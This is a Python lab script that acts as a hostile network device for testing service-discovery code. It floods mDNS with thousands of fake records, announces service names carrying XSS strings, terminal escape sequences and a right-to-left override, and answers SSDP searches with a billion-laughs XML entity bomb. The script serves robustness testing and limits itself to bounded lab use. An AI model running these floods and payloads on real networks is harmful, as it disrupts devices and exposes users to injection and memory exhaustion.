"""A hostile device for the discovery tests: run inside a lab host (``python hostile_responder.py IP``).

For ``duration`` seconds it floods mDNS with thousands of instances and service types, announces one
instance with control characters and HTML in its name and binary junk in its TXT record, and answers
every SSDP M-SEARCH with a description that is an XML entity bomb (billion laughs). Bounded in time
and rate, and only ever sent inside the lab.
"""

from __future__ import annotations

import http.server
import os
import socket
import struct
import sys
import threading
import time

from zeroconf._dns import DNSAddress, DNSPointer, DNSService, DNSText
from zeroconf._protocol.outgoing import DNSOutgoing
from zeroconf.const import _CLASS_IN, _FLAGS_AA, _FLAGS_QR_RESPONSE, _TYPE_A, _TYPE_PTR, _TYPE_SRV, _TYPE_TXT

MDNS = ("224.0.0.251", 5353)
SSDP = ("239.255.255.250", 1900)
#: Illegal in DNS-SD instance names (RFC 6763 §4.1.1): control characters.
EVIL_NAME = "\x1b[2J\x1b[31m<script>alert(1)</script>evil\x07"
#: Legal but nasty: HTML, a right-to-left override, a zero-width space, far too long.
NASTY_NAME = "<img src=x onerror=alert(1)>\u202eVT moor gnivil\u200b" + "A" * 5
BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol9 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">]>
<root xmlns="urn:schemas-upnp-org:device-1-0"><device><friendlyName>&lol9;</friendlyName></device></root>"""


def add_instance(out: DNSOutgoing, name: str, host: str, address: str, ttl: int) -> None:
    full = f"{name}._http._tcp.local."
    items = [b"\xff\xfe\x00junk", b"bin=" + bytes(range(60)), *(f"k{i}=v".encode() for i in range(500))]
    junk = b"".join(bytes([len(x)]) + x for x in items)
    out.add_answer_at_time(DNSPointer("_http._tcp.local.", _TYPE_PTR, _CLASS_IN, ttl, full), 0)
    out.add_answer_at_time(DNSService(full, _TYPE_SRV, _CLASS_IN, ttl, 0, 0, 80, host), 0)
    out.add_answer_at_time(DNSText(full, _TYPE_TXT, _CLASS_IN, ttl, junk), 0)
    out.add_answer_at_time(DNSAddress(host, _TYPE_A, _CLASS_IN, ttl, socket.inet_aton(address)), 0)


def mdns_packets(address: str) -> list[bytes]:
    ttl = 120
    host = "evil-host.local."
    out = DNSOutgoing(_FLAGS_QR_RESPONSE | _FLAGS_AA)
    for name in (EVIL_NAME, NASTY_NAME):
        add_instance(out, name, host, address, ttl)
    for i in range(3000):
        out.add_answer_at_time(
            DNSPointer("_http._tcp.local.", _TYPE_PTR, _CLASS_IN, ttl, f"flood-{i}._http._tcp.local."), 0
        )
    for i in range(200):
        out.add_answer_at_time(
            DNSPointer("_services._dns-sd._udp.local.", _TYPE_PTR, _CLASS_IN, ttl, f"_bogus{i}._tcp.local."),
            0,
        )
    return out.packets()


class Bomb(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/xml")
        self.send_header("Content-Length", str(len(BOMB)))
        self.end_headers()
        self.wfile.write(BOMB)

    def log_message(self, *_args: object) -> None:
        pass


def main() -> None:
    address, duration = sys.argv[1], float(sys.argv[2])
    http_server = http.server.ThreadingHTTPServer((address, 0), Bomb)
    threading.Thread(target=http_server.serve_forever, daemon=True).start()
    location = f"http://{address}:{http_server.server_address[1]}/desc.xml"
    ssdp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ssdp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ssdp.bind(("", SSDP[1]))
    ssdp.setsockopt(
        socket.IPPROTO_IP,
        socket.IP_ADD_MEMBERSHIP,
        struct.pack("4s4s", socket.inet_aton(SSDP[0]), socket.inet_aton(address)),
    )
    ssdp.settimeout(0.02)
    mdns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    mdns.bind((address, 0))
    mdns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    mdns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    packets = mdns_packets(address)
    print("ready", flush=True)
    deadline = time.monotonic() + duration
    next_flood = 0.0
    while time.monotonic() < deadline:
        if time.monotonic() >= next_flood:  # ~3,000 records four times a second: a flood, bounded
            for packet in packets:
                mdns.sendto(packet, MDNS)
            next_flood = time.monotonic() + 0.25
        try:
            data, peer = ssdp.recvfrom(2048)
        except TimeoutError:
            data = b""
        if data.startswith(b"M-SEARCH"):
            for _ in range(50):  # answer many times over: bounded on the other side
                reply = (
                    "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n"
                    f"LOCATION: {location}\r\nUSN: uuid:{os.getpid()}\r\n\r\n"
                )
                ssdp.sendto(reply.encode(), peer)
        time.sleep(0.03)
    http_server.shutdown()


if __name__ == "__main__":
    main()
